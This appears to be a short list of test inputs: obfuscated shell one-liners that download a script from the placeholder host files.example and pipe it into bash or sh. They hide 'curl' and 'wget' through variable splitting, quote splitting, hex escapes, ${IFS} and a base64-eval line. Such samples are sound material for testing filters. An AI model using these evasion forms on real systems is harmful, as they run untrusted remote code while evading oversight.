X=cu
${X}rl -s files.example/x | b''ash
$'\x77get' -O- files.example/y|sh
eval "$(echo ZWNobyBoaQo= | base64 -d)"
curl${IFS}files.example/z|sh
